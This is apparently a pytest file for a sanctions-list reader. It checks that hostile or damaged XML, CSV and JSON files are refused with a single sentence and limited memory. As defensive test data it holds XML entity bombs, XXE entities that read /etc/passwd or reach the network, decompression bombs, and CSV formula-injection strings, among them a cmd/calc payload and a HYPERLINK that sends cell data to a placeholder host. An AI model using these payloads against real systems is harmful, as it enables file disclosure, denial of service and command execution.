"""Files that mean harm, and files that came to harm: each is refused in one sentence, or read as what is left of it."""

from __future__ import annotations

import csv
import gzip
import json
import random
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.sources.tables import DOWNLOADS
from tracktwo.model.listing import ListSnapshot
from tracktwo.sources import table
from tracktwo.sources.home import add_source
from tracktwo.sources.lists import opened, read_list
from tracktwo.sources.lists.reading import FORMATS, format_of
from tracktwo.sources.recognise import recognise
from tracktwo.sources.table import UnreadableSource

HERE = Path(__file__).parent
GOOD = {
    "un.xml": DOWNLOADS / "un_consolidated.xml",
    **{
        path.name: path
        for path in sorted(HERE.glob("*.*"))
        if path.suffix in (".xml", ".csv", ".json") and path.stem not in ("alt", "add", "sdn_comments")
    },
}
"""Name → a good file of each format."""
XML = [name for name in GOOD if name.endswith(".xml")]
UTF8_ONLY = [name for name in GOOD if name not in ("sdn.csv", "own.csv")]


def refusal(path: Path) -> str:
    """The one sentence that refuses a file."""
    with pytest.raises(UnreadableSource) as refused:
        read_list(path)
    sentence = str(refused.value)
    assert sentence.startswith(path.name)
    assert "\n" not in sentence
    assert len(sentence) < 620
    return sentence


def tried(folder: Path, name: str, content: bytes) -> ListSnapshot | str:
    """What a file is read as, or the sentence that refuses it; anything else that is raised is a failure."""
    path = folder / name
    path.write_bytes(content)
    try:
        return read_list(path)
    except UnreadableSource as error:
        return str(error)


def held(name: str, answer: ListSnapshot | str) -> None:
    if isinstance(answer, str):
        assert answer.startswith(name)
        assert 20 < len(answer) < 620
        assert "\n" not in answer
    else:
        assert answer.entries


def test_every_format_has_a_good_file_here():
    assert len(GOOD) == len({snapshot_of(path) for path in GOOD.values()})
    assert {format_of(opened.taste(path)) for path in GOOD.values()} == set(FORMATS)


def snapshot_of(path: Path) -> str:
    return f"{read_list(path).key} {path.suffix}"


BILLION_LAUGHS = "".join(f'<!ENTITY l{step} "{f"&l{step - 1};" * 10}">' for step in range(1, 10))
DECLARED = {
    "a bomb of entities": f'<!DOCTYPE x [<!ENTITY l0 "ha">{BILLION_LAUGHS}]>',
    "an entity that reads a file": '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
    "an entity that asks the network": '<!DOCTYPE x [<!ENTITY secret SYSTEM "https://example.invalid/">]>',
    "a document type of elsewhere": '<!DOCTYPE x SYSTEM "https://example.invalid/x.dtd">',
    "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
}


@pytest.mark.parametrize("name", XML)
@pytest.mark.parametrize("declared", DECLARED)
def test_a_document_type_is_refused_before_anything_in_it_is_read(tmp_path, name, declared):
    text = GOOD[name].read_text(encoding="utf-8")
    head, tail = text.split("?>", 1)
    used = tail.replace("TARIQ", "&l9;&secret;").replace("Tariq", "&l9;&secret;")
    path = tmp_path / name
    path.write_text(f"{head}?>{DECLARED[declared]}{used}", encoding="utf-8")
    tracemalloc.start()
    assert "declares a document type or entities" in refusal(path)
    assert tracemalloc.get_traced_memory()[1] < 4 << 20
    tracemalloc.stop()


def test_an_entity_that_nobody_declared_is_not_well_formed(tmp_path):
    path = tmp_path / "un.xml"
    path.write_text(GOOD["un.xml"].read_text(encoding="utf-8").replace("TARIQ", "&secret;"), encoding="utf-8")
    assert "not well-formed XML (undefined entity)" in refusal(path)


@pytest.mark.parametrize("name", GOOD)
def test_a_small_archive_that_unpacks_without_end_is_refused(tmp_path, monkeypatch, name):
    monkeypatch.setattr(table, "MOST_BYTES", 1 << 20)
    content = GOOD[name].read_bytes()
    filler = b"<!-- -->" if name.endswith(".xml") else b"\n"
    path = tmp_path / f"{name}.gz"
    path.write_bytes(gzip.compress(content[:-1] + filler * (2 << 20) + content[-1:]))
    assert path.stat().st_size < 40_000
    assert "unpacks to more than" in refusal(path)


def test_a_plain_file_without_end_is_refused_too(tmp_path, monkeypatch):
    monkeypatch.setattr(opened, "MOST_BYTES", 1 << 20)
    path = tmp_path / "un.xml"
    path.write_bytes(GOOD["un.xml"].read_bytes().replace(b"<SORT_KEY/>", b"<!-- -->" * (1 << 18), 1))
    assert "holds more than" in refusal(path)


@pytest.mark.parametrize("name", [name for name in GOOD if not name.endswith(".xml")])
def test_a_line_without_end_is_refused(tmp_path, monkeypatch, name):
    monkeypatch.setattr(table, "LONGEST_LINE", 1 << 16)
    content = GOOD[name].read_bytes().removesuffix(b"\x1a")
    last = content.rstrip().rsplit(b"\n", 1)[-1]
    path = tmp_path / name
    path.write_bytes(content + last.replace(b"Imaginary", b"A" * (1 << 17)) + b"A" * (1 << 17))
    assert "characters, as no publisher writes" in refusal(path)


def test_a_tag_an_entry_or_a_nest_without_end_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(opened, "_LONGEST_MARK", 1 << 20)
    monkeypatch.setattr(opened, "LONGEST_RECORD", 1 << 20)
    text = GOOD["un.xml"].read_text(encoding="utf-8")
    for number, (old, new, said) in enumerate((
        ("<SORT_KEY/>", f'<SORT_KEY a="{"x" * (4 << 20)}"/>', "holds a tag of more than"),
        ("<SORT_KEY/>", f"<SORT_KEY>{'x ' * (2 << 20)}</SORT_KEY>", "holds an entry of more than"),
        ("<SORT_KEY/>", "<a>" * 100 + "</a>" * 100, "nests its elements deeper"),
        ("<SORT_KEY/>", "".join(f"<a{step}/>" for step in range(3000)), "names more of them"),
    )):  # fmt: skip
        path = tmp_path / f"un{number}.xml"
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
        assert said in refusal(path)


@pytest.mark.parametrize("name", UTF8_ONLY)
@pytest.mark.parametrize("encoding", ["cp1256", "shift_jis", "cp1251"])
def test_names_in_an_encoding_that_the_publisher_does_not_use_are_refused_and_not_misread(tmp_path, name, encoding):
    text = GOOD[name].read_text(encoding="utf-8-sig").replace("Tariq", "Тарик" if encoding != "cp1256" else "طارق")
    text = text.replace("TARIQ", "ТАРИК" if encoding != "cp1256" else "طارق")
    path = tmp_path / name
    path.write_bytes(text.encode(encoding, errors="replace"))
    sentence = refusal(path)
    assert "is not encoded as UTF-8" in sentence or "not well-formed XML" in sentence


@pytest.mark.parametrize("name", GOOD)
def test_utf_16_with_its_mark_is_read(tmp_path, name):
    text = GOOD[name].read_text(encoding="utf-8-sig").replace('encoding="UTF-8"', "").replace('encoding="utf-8"', "")
    answer = tried(tmp_path, name, text.encode("utf-16"))
    assert isinstance(answer, ListSnapshot), answer
    assert [entry.names for entry in answer.entries] == [entry.names for entry in read_list(without_siblings(tmp_path, name)).entries]


def without_siblings(folder: Path, name: str) -> Path:
    alone = folder / "alone"
    alone.mkdir()
    (alone / name).write_bytes(GOOD[name].read_bytes())
    return alone / name


@pytest.mark.parametrize("name", GOOD)
def test_a_nul_in_a_name_is_damage(tmp_path, name):
    content = GOOD[name].read_bytes()
    start = content.lower().rindex(b"imaginary" if b"maginary" in content.lower() else b"tariq")
    answer = tried(tmp_path, name, content[:start] + b"\x00" + content[start:])
    assert isinstance(answer, str)
    assert "NUL" in answer or "not well-formed" in answer or "not one entity as JSON" in answer


@pytest.mark.parametrize("name", XML)
def test_an_xml_file_cut_off_is_refused_and_never_read_as_a_shorter_list(tmp_path, name):
    content = GOOD[name].read_bytes().rstrip()
    for end in range(len(content) // 8, len(content) - 1, len(content) // 40):
        assert isinstance(tried(tmp_path, name, content[:end]), str)


@pytest.mark.parametrize("name", GOOD)
def test_a_compressed_file_cut_off_is_refused(tmp_path, name):
    packed = gzip.compress(GOOD[name].read_bytes())
    answer = tried(tmp_path, f"{name}.gz", packed[: len(packed) // 2])
    assert isinstance(answer, str)
    assert "damaged or cut off" in answer


@pytest.mark.parametrize("encoding", ["UTF-9", "U", "utf-7", "shift_jis", "utf-16"])
def test_an_encoding_that_is_declared_and_cannot_be_is_refused(tmp_path, encoding):
    path = tmp_path / "un.xml"
    path.write_bytes(GOOD["un.xml"].read_bytes().replace(b'encoding="UTF-8"', f'encoding="{encoding}"'.encode()))
    assert "encoding" in refusal(path) or "not well-formed" in refusal(path)


def test_an_empty_file_an_archive_and_a_folder_are_told(tmp_path):
    (tmp_path / "empty.xml").touch()
    assert refusal(tmp_path / "empty.xml") == "empty.xml is empty; download it anew"
    with zipfile.ZipFile(tmp_path / "list.zip", "w") as archive:
        archive.writestr("sdn.csv", "1")
    assert "is a zip archive" in refusal(tmp_path / "list.zip")
    with pytest.raises(UnreadableSource, match="does not exist"):
        read_list(tmp_path / "nowhere.csv")
    with pytest.raises(UnreadableSource, match=r"is a folder|Is a directory"):
        read_list(tmp_path)


FORMULAS = ('=HYPERLINK("https://example.invalid/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_for_a_name_is_read_as_words_and_stays_as_it_is(tmp_path, formula):
    path = tmp_path / "own.csv"
    with path.open("w", newline="") as file:
        csv.writer(file).writerows([["name", "aliases", "birth_date", "list", "as_of"], [formula, "", "", "L", "2026-01-01"]])
    name = read_list(path).entries[0].names[0].text
    assert name == formula
    # That words with such a beginning are words in a workbook, and how CSV is written, is held where those are made.


PUT_IN = [
    b"\x00",
    b'"',
    b"\n",
    b";",
    b",,,",
    b"<",
    b"</a>",
    b"&#0;",
    b"&#x10ffff;",
    b"]]>",
    b"9" * 5000,
    b"\r",
    b"\xe2\x80\xa8",
    b"{",
    b"[" * 3000,
    b"-0-",
    b"((((",
]


@pytest.mark.parametrize("name", GOOD)
@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_bytes_put_in_cut_out_or_doubled_anywhere_lead_to_no_exception(
    name: str, tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    content = GOOD[name].read_bytes()
    for _ in range(data.draw(st.integers(1, 3))):
        start = data.draw(st.integers(0, len(content)))
        end = data.draw(st.integers(start, min(len(content), start + 60)))
        put_in = data.draw(st.one_of(st.binary(max_size=12), st.sampled_from(PUT_IN), st.just(content[start:end] * 2)))
        content = content[:start] + put_in + content[end:]
    held(name, tried(tmp_path_factory.mktemp("put"), name, content))


@pytest.mark.parametrize("name", GOOD)
@settings(max_examples=40, deadline=None)
@given(data=st.data())
def test_a_value_that_makes_no_sense_leads_to_no_exception(name: str, tmp_path_factory: pytest.TempPathFactory, data: st.DataObject) -> None:
    text = GOOD[name].read_text(encoding="utf-8-sig")
    known = [
        value
        for value in ("1970", "1969", "1972", "2024-05-02", "Tariq", "TARIQ", "7001", "CAR0901", "9001", "true", "person", "cf")
        if value in text
    ]
    old = data.draw(st.sampled_from(known))
    printable = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc"), exclude_characters="<&>\"',;"), max_size=12)
    odd = data.draw(st.one_of(printable, st.sampled_from(["²", "٣", "0", "-1", "0000", "99999", "9" * 5000, "2024-13-45", "inf", "\u2029"])))
    held(name, tried(tmp_path_factory.mktemp("value"), name, text.replace(old, odd).encode()))


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=6),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
    max_leaves=6,
)


@settings(max_examples=200, deadline=None)
@given(data=st.data())
def test_an_entity_with_values_of_any_type_leads_to_no_exception(tmp_path_factory: pytest.TempPathFactory, data: st.DataObject) -> None:
    lines = [json.loads(line) for line in GOOD["entities.ftm.json"].read_text(encoding="utf-8").splitlines()]
    entity = data.draw(st.sampled_from(lines))
    within = data.draw(st.sampled_from([entity, entity["properties"]]))
    within[data.draw(st.sampled_from(sorted(within)))] = data.draw(json_values)
    content = "\n".join(json.dumps(line) for line in lines).encode()
    held("entities.ftm.json", tried(tmp_path_factory.mktemp("types"), "entities.ftm.json", content))


def test_adding_a_hostile_list_keeps_nothing(tmp_path):
    path = tmp_path / "un.xml"
    path.write_text(GOOD["un.xml"].read_text(encoding="utf-8").replace("?>", f"?>{DECLARED['a bomb of entities']}", 1), encoding="utf-8")
    with pytest.raises(UnreadableSource, match="declares a document type"):
        recognise(path)
    with pytest.raises(UnreadableSource, match="declares a document type"):
        add_source(path, tmp_path / "home", as_of=date(2026, 11, 26))
    assert [one for one in (tmp_path / "home").rglob("*") if one.is_file()] == []


IN_ITS_OWN_PROCESS = """
import resource, sys
from pathlib import Path
from tracktwo.sources.countries import load_countries
from tracktwo.sources.lists import read_list
from tracktwo.sources.table import UnreadableSource
load_countries()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    read_list(Path(sys.argv[1]))
    print("read")
except UnreadableSource as error:
    print(error)
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


def gigantic(path: Path, head: bytes, repeated: bytes, times: int, tail: bytes = b"") -> None:
    with gzip.open(path, "wb", compresslevel=1) as file:
        file.write(head)
        for _ in range(times):
            file.write(repeated)
        file.write(tail)


MEGABYTE = 1 << 20
ENORMOUS: dict[str, tuple[str, bytes, bytes, int, str]] = {
    "a line of one gigabyte": ("own.csv", b"name,aliases,birth_date,list,as_of\n", b"A" * MEGABYTE, 1024, "characters, as no publisher writes"),
    "JSON of one gigabyte": ("e.json", b'{"schema":"Person","id":"1","properties":{"name":["', b"A" * MEGABYTE, 1024, "as no publisher writes"),
    "a text of one gigabyte in XML": ("un.xml", b"<CONSOLIDATED_LIST><INDIVIDUAL><FIRST_NAME>", b"A" * MEGABYTE, 1024, "holds an entry of more than"),
    "a tag of one gigabyte": ("un.xml", b'<CONSOLIDATED_LIST><INDIVIDUAL a="', b"A" * MEGABYTE, 1024, "holds a tag of more than"),
    "three gigabytes of nothing": ("un.xml", b"<CONSOLIDATED_LIST>", b" " * MEGABYTE, 3072, "unpacks to more than 2 GiB"),
    "three gigabytes of short lines": ("own.csv", b"name,aliases,birth_date,list,as_of\n", b"\n" * MEGABYTE, 3072, "unpacks to more than 2 GiB"),
}  # fmt: skip


@pytest.mark.gate
@pytest.mark.parametrize("enormous", ENORMOUS)
def test_an_enormous_file_is_refused_with_little_memory(tmp_path: Path, enormous: str, record_property: Callable[[str, object], None]) -> None:
    name, head, repeated, times, said = ENORMOUS[enormous]
    path = tmp_path / f"{name}.gz"
    gigantic(path, head, repeated, times)
    done = subprocess.run([sys.executable, "-c", IN_ITS_OWN_PROCESS, str(path)], capture_output=True, text=True, check=True, timeout=300)
    sentence, grown = done.stdout.strip().rsplit("\n", 1)
    assert said in sentence
    assert int(grown) < 200
    record_property("figure", f"{enormous}: a file of {path.stat().st_size >> 10:,} KiB refused with {grown} MiB of memory more")


GATE_TIMES = 3000


@pytest.mark.gate
@pytest.mark.parametrize("name", GOOD)
def test_no_damage_to_a_list_leads_to_an_exception(tmp_path: Path, name: str, record_property: Callable[[str, object], None]) -> None:
    chance = random.Random(20261127)
    good = GOOD[name].read_bytes()
    refused = 0
    for _ in range(GATE_TIMES):
        content = bytearray(good)
        for _ in range(chance.randrange(1, 5)):
            start = chance.randrange(len(content) + 1)
            end = start + chance.randrange(40)
            other = chance.randrange(len(good))
            content[start:end] = chance.choice([b"", chance.randbytes(chance.randrange(9)), chance.choice(PUT_IN), good[other : other + 30]])
        answer = tried(tmp_path, name, bytes(content))
        held(name, answer)
        refused += isinstance(answer, str)
    record_property("figure", f"{GATE_TIMES:,} damaged files of {name}: {refused:,} refused in a sentence, {GATE_TIMES - refused:,} read")
